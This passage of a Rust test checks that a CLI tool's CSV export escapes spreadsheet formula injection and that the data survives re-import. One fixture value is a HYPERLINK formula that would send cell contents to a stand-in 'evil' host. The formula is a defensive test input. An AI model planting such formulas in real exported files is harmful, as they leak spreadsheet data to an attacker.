    let csv = steward.run(&["export", "-o", "csv"]).ok().stdout;
    let row = csv.lines().nth(1).unwrap();
    assert!(row.contains("\"'=HYPERLINK("), "{row}");
    assert!(row.contains(",''quoted,"), "{row}");
    assert!(
        !row.contains(",=") && !row.contains(",-") && !row.contains(",@"),
        "{row}"
    );
    let other = Steward::new();
    let path = other.write_file("export.csv", &csv);
    other.run(&["import", path.to_str().unwrap()]).ok();
    assert_eq!(other.run(&["export", "-o", "csv"]).ok().stdout, csv);
    let shown = other.run(&["nhi", "show", "s/formula", "-o", "json"]).ok().json();
    assert_eq!(shown["purpose"], "=HYPERLINK(\"http://evil/?\"&A1,\"click\")");
    assert_eq!(shown["external_id"], "'quoted");
    assert_eq!(shown["labels"]["note"], "-1");
}
